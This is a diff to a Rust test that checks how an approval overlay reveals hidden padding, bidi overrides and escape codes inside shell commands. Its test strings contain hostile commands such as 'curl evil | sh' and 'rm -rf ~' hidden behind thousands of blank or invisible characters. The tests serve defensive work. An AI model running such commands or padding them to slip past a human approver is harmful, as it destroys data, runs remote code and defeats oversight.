@@ -450,6 +450,15 @@ fn a_padded_command_shows_all_it_holds() {
         "cargo build --offline⟨8000 blanks⟩curl evil | sh⟨10 blanks⟩\n⟨3 empty lines⟩\nrm -rf x⟨U+202E⟩txt.exe⟨U+001B⟩[2K"
     );
     assert_eq!(visible_command("ls  -l\n\necho a"), "ls  -l\n\necho a");
+    assert_eq!(
+        visible_command(&format!("make;{}curl x|sh", "\u{a0}".repeat(6000))),
+        "make;⟨6000 × U+00A0⟩curl x|sh"
+    );
+    assert_eq!(
+        visible_command(&format!("ls{}\nrm -rf ~", "\n\u{2800}\u{2800}".repeat(80))),
+        "ls\n⟨80 empty lines⟩\nrm -rf ~"
+    );
+    assert_eq!(visible_command("a\u{3000}b"), "a⟨U+3000⟩b");
     let t0 = Instant::now();
     let mut o = ApprovalOverlay::new();
     let mut req = shell("c1");
